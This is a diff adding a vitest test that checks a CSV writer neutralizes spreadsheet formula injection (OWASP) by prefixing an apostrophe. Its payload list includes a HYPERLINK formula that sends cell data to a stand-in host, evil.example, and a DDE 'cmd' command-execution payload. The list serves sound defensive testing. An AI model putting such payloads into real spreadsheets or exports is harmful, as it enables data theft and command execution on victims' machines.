@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { mkdirSync, mkdtempSync, readFileSync, readdirSync, existsSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
-import { appendCsv, CSV_COLUMNS, errorRows, reportRows } from '../../../src/watch/csv.js';
+import { appendCsv, CSV_COLUMNS, csvRow, errorRows, reportRows } from '../../../src/watch/csv.js';
 import { promFailureText, promText, writeProm } from '../../../src/watch/prom.js';
 import { markSnapshot, pruneSnapshots } from '../../../src/watch/retention.js';
 import { down, group, host, report } from '../diff/reports.js';
@@ -26,6 +26,23 @@ describe('CSV series', () => {
     expect(col(rows[1], 'leaking_groups')).toBe('1');
     expect(col(rows[1], 'verdict')).toBe('leaking');
     expect(reportRows(r)[2]).toBe(`2025-01-01T00:00:00.000Z,h3,error,,,${','.repeat(11)},unknown,,run-1,"unreachable: ssh: connect to host h3 port 22: Connection refused, ""really"""`);
+  });
+
+  it('neutralizes cells a spreadsheet would run as a formula (OWASP), keeping numbers numbers (issue 21)', () => {
+    /** The cells of one CSV row, quotes undone. */
+    const cells = (row: string): string[] => [...row.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map((m) => (m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1]));
+    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3+cmd|x', '\t=1+1', '\r=1+1'];
+    for (const f of formulas) {
+      const row = csvRow({ timestamp: 't', host: f, ok: false, goroutines: null, threads: null, sockets: null, verdict: 'unknown', leakingGroups: null, runId: 'r', error: `x${f}` });
+      const c = cells(row);
+      expect(c).toHaveLength(CSV_COLUMNS.length);
+      expect(c[1], row).toBe(`'${f}`);
+    }
+    const error = cells(csvRow({ timestamp: 't', host: 'h', ok: false, goroutines: null, threads: null, sockets: null, verdict: 'unknown', leakingGroups: null, runId: 'r', error: '=1+1' }));
+    expect(error.at(-1)).toBe("'=1+1");
+    // Numbers stay numbers, a negative one too; plain text is left alone.
+    const plain = csvRow({ timestamp: '2025-01-01T00:00:00.000Z', host: 'web-1', ok: true, goroutines: -5, threads: 0, sockets: { ESTABLISHED: 2 }, verdict: 'healthy', leakingGroups: 0, runId: 'run-1', error: null });
+    expect(cells(plain).slice(0, 6)).toEqual(['2025-01-01T00:00:00.000Z', 'web-1', 'ok', '-5', '0', '2']);
   });
 
   it('appends, writing the header once, and refuses a file with other columns', async () => {
